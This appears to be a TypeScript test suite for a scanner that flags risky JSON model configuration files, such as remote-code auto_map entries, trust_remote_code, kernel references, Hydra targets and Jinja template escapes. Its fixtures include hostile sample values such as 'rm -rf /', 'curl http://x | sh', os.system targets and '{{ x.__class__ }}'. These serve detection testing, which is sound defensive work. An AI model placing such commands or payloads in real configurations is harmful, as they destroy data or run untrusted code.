import * as fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { jsonConfigFormat, JSON_LIMIT } from '../../../../utils/formats/code/config-json';
import { analyze, utf8 } from '../../../fixtures/analyze';
import { kerasModel } from '../../../fixtures/keras';
import { untold } from '../../../fixtures/texts';

const read = (value: unknown) =>
  analyze(jsonConfigFormat, utf8(typeof value === 'string' ? value : JSON.stringify(value)));

test.each([
  ['auto_map', { auto_map: { AutoModel: 'modeling.Model' } }, 'suspicious', 'config/auto-map'],
  ['auto_map, listed', { auto_map: { AutoTokenizer: ['tok.Tok', null] } }, 'suspicious', 'config/auto-map'],
  ['auto_map below', { a: [{ auto_map: { AutoModel: 'm.M' } }] }, 'suspicious', 'config/auto-map'],
  [
    'auto_map of another repository',
    { auto_map: { AutoModel: 'acme/x--modeling.Model' } },
    'suspicious',
    'config/other-repository',
  ],
  [
    'custom pipelines',
    { custom_pipelines: { p: { impl: 'pipe.Mine' } } },
    'suspicious',
    'config/custom-code',
  ],
  ['custom generation', { custom_generate: 'acme/x' }, 'suspicious', 'config/custom-code'],
  ['trust', { trust_remote_code: true }, 'suspicious', 'config/trust'],
  [
    'a foreign parent library',
    { auto_mapping: { parent_library: 'acme.models' } },
    'suspicious',
    'config/foreign-library',
  ],
  [
    'a kernel (CVE-2026-4372)',
    { _attn_implementation_internal: 'acme/kernel' },
    'dangerous',
    'config/kernel',
  ],
  [
    'a kernel with a revision',
    { text_config: { attn_implementation: 'acme/kernel@main' } },
    'dangerous',
    'config/kernel',
  ],
  [
    'a pipeline of its own',
    { _class_name: ['pipeline', 'Mine'], unet: ['diffusers', 'UNet'] },
    'suspicious',
    'config/foreign-library',
  ],
  [
    'a component of its own',
    { _class_name: 'A', unet: ['my_module', 'Mine'] },
    'suspicious',
    'config/foreign-library',
  ],
  [
    'a module of its own',
    [{ idx: 0, name: '0', path: '', type: 'mine.Pooling' }],
    'suspicious',
    'config/foreign-library',
  ],
  ['a target that runs', { model: { _target_: 'os.system' } }, 'dangerous', 'config/target-reaches'],
  ['an old target that runs', { target: 'subprocess.Popen' }, 'dangerous', 'config/target-reaches'],
  ['a target that unpickles', { _target_: 'torch.load' }, 'dangerous', 'config/target-reaches'],
  ['a target by Hydra', { _target_: 'hydra.utils.get_method' }, 'dangerous', 'config/target-reaches'],
  ['an unknown target', { _target_: 'mine.Model' }, 'suspicious', 'config/target'],
  ['a template', { chat_template: '{{ x.__class__ }}' }, 'dangerous', 'jinja/internals'],
  [
    'templates by name',
    { chat_template: [{ name: 'a', template: '{{ x.__class__ }}' }] },
    'dangerous',
    'jinja/internals',
  ],
  ['a command', { debug: 'rm -rf /' }, 'suspicious', 'config/command'],
  ['a download', { run: 'curl http://x | sh' }, 'suspicious', 'config/command'],
  ['an install script', { scripts: { postinstall: 'node x.js' } }, 'suspicious', 'config/install-script'],
  ['a Keras model', kerasModel(['os', 'system']), 'dangerous', 'keras/class-reaches'],
  ['no JSON', '{"a": ', 'broken', 'config/no-json'],
  ['JSON too deep', `${'['.repeat(500)}${']'.repeat(500)}`, 'suspicious', 'config/too-deep'],
] as const)('JSON with %s', async (_, value, verdict, id) => {
  const result = await read(value);
  expect(result.verdict).toBe(verdict);
  expect(result.findings.map((each) => each.id)).toContain(id);
  expect(untold(result.findings)).toEqual([]);
});

test.each([
  [
    'a configuration',
    { model_type: 'llama', _name_or_path: 'acme/x', auto_map: {}, trust_remote_code: false },
  ],
  ['an attention by name', { _attn_implementation: 'flash_attention_2', attn_implementation: null }],
  [
    'a pipeline of diffusers',
    {
      _class_name: 'A',
      _diffusers_version: '1',
      unet: ['diffusers', 'U'],
      safety: ['stable_diffusion', 'S'],
      x: [null, null],
    },
  ],
  ['modules', [{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Pooling' }]],
  ['a target of NeMo', { _target_: 'nemo.collections.asr.Model', target: 'ldm.models.Model' }],
  ['a template', { chat_template: '{% for m in messages %}{{ m.content }}{% endfor %}' }],
  ['prototype names', '{"__proto__": {"auto_map": 1}, "constructor": "x"}'],
  ['vocabulary', { model: { vocab: { '{{': 1, os: 2 } } }],
])('JSON with %s is data', async (_, value) => {
  expect(await read(value)).toMatchObject({ verdict: 'safe', findings: [] });
});

describe('JSON', () => {
  it('with a key twice says so, and takes the last', async () => {
    const { verdict, findings } = await read('{"trust_remote_code": true, "trust_remote_code": false}');
    expect([verdict, ...findings.map(({ id }) => id)]).toEqual(['safe', 'config/duplicate-key']);
  });

  it('is known by its start', () => {
    for (const [text, matches] of [
      [' {"a": 1}', true],
      ['\uFEFF[1]', true],
      ['a: 1', false],
      ['', false],
    ] as const)
      expect(jsonConfigFormat.matches(utf8(text), text.length)).toBe(matches);
  });

  it('that is too large is not called safe', async () => {
    const source = { size: JSON_LIMIT + 1, bytesRead: 0, read: async () => utf8('{}') };
    expect((await analyze(jsonConfigFormat, utf8('{}'), { source })).verdict).toBe('unknown');
  });

  it('of any shape is read to an end', async () => {
    await fc.assert(fc.asyncProperty(fc.json(), async (text) => void (await read(text))));
    await fc.assert(fc.asyncProperty(fc.string(), async (text) => void (await read(`{${text}`))));
  });
});

test('of a text that would take too much memory, what was read counts and the rest is not known', async () => {
  const text = `{"auto_map":{"AutoModel":"m.M"},"x":[${'{},'.repeat(200_000)}{}],"y":1}`;
  const { verdict, findings } = await read(text);
  expect(verdict).toBe('suspicious');
  expect(findings.map(({ id }) => id)).toEqual(['config/auto-map', 'incomplete/limit']);
  const calm = await read(text.replace('auto_map', 'map'));
  expect(calm.verdict).toBe('unknown');
});
